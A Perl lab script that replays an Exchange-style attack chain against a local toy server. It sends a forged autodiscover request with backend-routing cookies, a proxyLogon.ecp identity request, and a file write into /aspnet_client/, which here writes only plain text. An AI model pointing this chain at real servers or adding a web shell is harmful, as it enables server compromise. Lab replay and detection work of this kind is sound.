#!/usr/bin/env perl
# Perl LWP::UserAgent port of the lab request chain (toy server on 127.0.0.1 only).
use strict;
use warnings;
use LWP::UserAgent;
use HTTP::Request;

my $port   = shift // 8080;
my $base   = "http://127.0.0.1:$port";
my $agent  = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36';
my $domain = 'lab.invalid';
my $note   = '/aspnet_client/system_web/readme_91453.txt';
my $ticket = '1843073522';

my $ua = LWP::UserAgent->new(timeout => 10, agent => '');

sub browser {
    return (
        'User-Agent'       => $agent,
        'x-requested-with' => 'XMLHttpRequest',
        'Accept'           => '*/*',
        'accept-language'  => 'en-US,en;q=0.9',
        'connection'       => 'close',
    );
}

my $pad    = 'A' x 37;
my $cookie = join '; ', 'X-AnonResource=true', "X-AnonResource-Backend=$domain",
    "X-BEResource=localhost\@$domain/ews/exchange.asmx?a%3D~$ticket";
my $probe = HTTP::Request->new(
    GET => "$base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720",
    [ browser(), 'cookie' => $cookie ],
);
my $res = $ua->request($probe);
exit 1 if $res->code >= 500;

my $identity = HTTP::Request->new(
    POST => "$base/ecp/proxyLogon.ecp",
    [
        'user-agent'         => $agent,
        'msexchlogonmailbox' => 'S-1-5-20',
        'content-type'       => 'application/json',
        'X-BEResource'       => "localhost\@$domain/ecp/proxyLogon.ecp",
    ],
    '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
);
$res = $ua->request($identity);
my $who = $res->code == 200 ? $res->decoded_content : '';
$who =~ s/^\s+|\s+$//g;
$who = 'anonymous' unless length $who;

my $text = join "\n", map { sprintf 'note %d of 3 for %s', $_, $who } 1 .. 3;
$ua->request(HTTP::Request->new(
    POST => "$base$note",
    [ 'user-agent' => $agent, 'X-Note-Path' => $note, 'Content-Type' => 'text/plain' ],
    $text,
));
$res = $ua->request(HTTP::Request->new(GET => "$base$note", [ browser() ]));
print length($res->content), "\n";
